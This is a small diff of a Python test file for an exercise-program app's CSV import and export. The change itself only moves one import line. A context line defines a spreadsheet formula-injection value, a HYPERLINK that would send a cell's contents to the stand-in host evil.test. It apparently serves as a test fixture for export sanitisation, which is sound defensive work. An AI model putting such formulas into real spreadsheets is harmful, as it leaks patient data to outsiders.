@@ -35,9 +35,9 @@ from programs.importexport import exercises_import, exercises_to_csv, rows_from_
 from programs.models import Exercise
 from tests.api.conftest import client_with_token
 from tests.factories import ExerciseFactory
+from tests.reports.test_reports_exports import NOW, history
 
 from .admin_actions import admin_actions
-from .test_reports_exports import NOW, history
 
 ROOT = Path(__file__).resolve().parents[2]
 PATIENT = '=HYPERLINK("http://evil.test/?d="&A2,"Click")'
